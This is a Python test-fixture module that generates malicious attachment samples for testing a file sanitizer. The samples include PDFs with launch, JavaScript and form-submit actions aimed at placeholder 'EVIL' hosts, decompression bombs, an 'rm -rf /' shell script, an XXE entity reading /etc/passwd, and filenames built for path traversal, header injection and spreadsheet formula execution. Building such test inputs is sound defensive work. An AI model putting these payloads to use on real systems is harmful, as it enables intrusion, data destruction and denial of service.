"""A second corpus of files that somebody may send (the first is tests/common/attachment_files.py): documents that act, pictures
that unpack, files that are two things. Everything is made here."""

import io
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

from tests.common.attachment_files import (
    HTML,
    SECRET,
    encoded,
    exif,
    heic,
    jpeg,
    jpeg_with_position,
    pdf,
    picture,
    png,
    webp,
    zip_bomb,
)

EVIL = b"EVIL"


def document(change) -> bytes:
    """One page, and whatever `change(pdf, page)` does to it."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 200))
    change(made, made.pages[0])
    file = io.BytesIO()
    made.save(file)
    return file.getvalue()


def link(action) -> bytes:
    """A page with a link that does something."""

    def change(made, page):
        page.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=action(made))])

    return document(change)


def photograph(filters, data: bytes, **more) -> bytes:
    """A page with a photograph that knows where it was taken."""

    def change(made, page):
        photo = made.make_stream(
            data, Subtype=Name.Image, Width=60, Height=40, ColorSpace=Name.DeviceRGB, BitsPerComponent=8, **more
        )
        photo.Filter = filters
        page.Resources = Dictionary(XObject=Dictionary(Im0=photo))
        page.Contents = made.make_stream(b"q 60 0 0 40 0 0 cm /Im0 Do Q")

    return document(change)


def outline(made, _page):
    item = made.make_indirect(
        Dictionary(Title=String("x"), A=Dictionary(S=Name.JavaScript, JS=String("EVIL()")), Dest=Name.x)
    )
    made.Root.Outlines = made.make_indirect(Dictionary(First=item, Last=item, Count=1))
    item.Parent = made.Root.Outlines


def carried(made, page):
    """A file that rides on a key no list of names knows."""
    spec = Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=made.make_stream(b"EVIL-PAYLOAD")))
    made.Root.Somewhere = made.make_indirect(spec)
    page.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Stamp, Rect=[0, 0, 9, 9], FS=made.Root.Somewhere)])


def form(made, _page):
    submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://EVIL.example/")))
    field = made.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("b"), Rect=[0, 0, 9, 9], A=submit)
    )
    made.pages[0].Annots = Array([field])
    made.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=made.make_stream(b"<EVIL/>"))


def nested(depth: int) -> bytes:
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * depth + b"]" * depth, 1)


def jp2() -> bytes:
    """JPEG 2000 with a box of XML that says where it was taken."""
    data = encoded(picture(), "JPEG2000")
    box = struct.pack(">I4s", 8 + len(SECRET), b"xml ") + SECRET
    mark = data.index(b"jp2c") - 4
    return data[:mark] + box + data[mark:]


def flate(data: bytes) -> bytes:
    return zlib.compress(data)


def remote(kind: str):
    return lambda _made: Dictionary(S=Name(f"/{kind}"), F=String("\\\\EVIL\\share"), URI=String("EVIL"))


def chain_array(made):
    launch = Dictionary(S=Name.Launch, F=String("EVIL.exe"))
    chain = Array([made.make_indirect(launch), Dictionary(S=Name.Launch, F=String("EVIL"))])
    return Dictionary(S=Name.URI, URI=String("https://example.org/"), Next=chain)


ABROAD = ("GoToR", "GoToE", "ImportData", "Rendition", "Thread", "SubmitForm", "Movie", "Sound", "Hide")
DOCUMENTS = {  # what is kept without what it carries
    "photograph in a list of filters": photograph(Array([Name.DCTDecode]), jpeg_with_position()),
    "photograph packed once more": photograph(Array([Name.FlateDecode, Name.DCTDecode]), flate(jpeg_with_position())),
    "photograph packed as text": photograph(
        Array([Name.ASCIIHexDecode, Name.DCTDecode]), jpeg_with_position().hex().encode() + b">"
    ),
    "photograph as JPEG 2000": photograph(Name.JPXDecode, jp2()),
    "launch behind a link, in a list": link(chain_array),
    "launch behind a link": link(
        lambda made: Dictionary(
            S=Name.URI, URI=String("https://example.org/"), Next=Dictionary(S=Name.Launch, F=String("EVIL"))
        )
    ),
    "script as an address": link(lambda made: Dictionary(S=Name.URI, URI=String("javascript:EVIL()"))),
    "script as an address, spaced": link(lambda made: Dictionary(S=Name.URI, URI=String(" JavaScript:EVIL()"))),
    "file as an address": link(lambda made: Dictionary(S=Name.URI, URI=String("file:///EVIL"))),
    **{
        f"{kind} behind a link": link(remote(kind))
        for kind in ("GoToR", "GoToE", "ImportData", "Rendition", "Thread", "SubmitForm")
    },
    "script of an outline": document(outline),
    "a file on an unknown key": document(carried),
    "form that sends itself": document(form),
    "page behind the end": pdf() + b"\n%%EOF\n",
}
REFUSED = {
    "10,000 pages": pdf(10_000),
    "locked by its owner": None,  # made below: needs another way of saving
    "arrays in arrays": nested(20_000),
    "half a document": pdf(3)[: len(pdf(3)) // 2],
    "document with a page behind it": pdf() + HTML + b" " * 2000,
    "only a mark": b"%PDF-1.7\n%%EOF",
    "page in front": HTML + pdf(),
    "archive in front": zip_bomb() + pdf(),
    "half a photograph": jpeg(quality=95)[:400],
    "mark of a photograph": b"\xff\xd8\xff",
    "mark of a picture": b"\x89PNG\r\n\x1a\n",
    "half a HEIC": heic()[:300],
    "animation": encoded(picture().convert("P"), "GIF"),
    "nothing": b"",
    "bitmap": encoded(picture(), "BMP"),
    "script": b"#!/bin/sh\nrm -rf /\n",
    "word processor": zip_bomb(),
    "Flash": b"CWS\x0a" + b"\0" * 100,
    "XML": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "picture that unpacks its words": None,
}


def _locked() -> bytes:
    made, file = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    made.save(file, encryption=pikepdf.Encryption(owner="x", user=""))
    return file.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def with_chunks(*chunks: bytes) -> bytes:
    plain = png()
    end = plain.index(b"IDAT") - 4
    return plain[:end] + b"".join(chunks) + plain[end:]


REFUSED["locked by its owner"] = _locked()
WORDS = zlib.compress(b"\0" * 60_000_000, 9)  # once: every test process that collects this file makes it
REFUSED["picture that unpacks its words"] = with_chunks(
    *[chunk(b"zTXt", b"k%d\0\0" % number + WORDS) for number in range(40)]
)


def _profile(size: int) -> bytes:
    from PIL import ImageCms

    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes() + SECRET + b"\0" * size


def _words() -> bytes:
    words = PngImagePlugin.PngInfo()
    words.add_text("Author", SECRET.decode())
    words.add_itxt("XML:com.adobe.xmp", SECRET.decode(), zip=True)
    return encoded(picture(), "PNG", pnginfo=words, exif=exif())


PICTURES = {  # what is kept, and as what it is handed out
    "four inks": encoded(picture().convert("CMYK"), "JPEG", exif=exif()),
    "sixteen bits": encoded(Image.new("I;16", (60, 40), 40_000), "PNG"),
    "palette": encoded(picture().convert("P"), "PNG"),
    "one bit": encoded(picture().convert("1"), "PNG"),
    "moving picture": encoded(picture(), "PNG", save_all=True, append_images=[picture()] * 20),
    "moving WebP": encoded(picture(), "WEBP", save_all=True, append_images=[picture()] * 20),
    "large profile": encoded(picture(), "JPEG", icc_profile=_profile(400_000)),
    "profile that is none": encoded(picture(), "JPEG", icc_profile=SECRET * 10),
    "words of a picture": _words(),
    "photograph and page": jpeg() + HTML,
    "photograph and document": jpeg() + pdf(),
    "photograph with a page as its comment": jpeg(comment=HTML),
    "picture and archive": png() + zip_bomb(),
    "two photographs": encoded(picture(), "MPO", save_all=True, append_images=[picture()], exif=exif()),
    "WebP that knows its place": webp(),
    "HEIC that knows its place": heic(),
    "one dot": encoded(Image.new("RGB", (1, 1)), "PNG"),
    "a line": encoded(Image.new("L", (20_000, 1)), "PNG"),
}
NAMES = [
    'x"; filename="evil.html',
    "x\r\nContent-Type: text/html\r\n\r\n<script>",
    "\u202efdp.exe",
    "a\0.html",
    "../../etc/passwd",
    "..\\..\\boot.ini",
    "%2e%2e%2f%0d%0aSet-Cookie:a=b",
    "合同" * 200 + ".html",
    "CON.pdf",
    "=cmd|' /C calc'!A0.pdf",
    "",
]
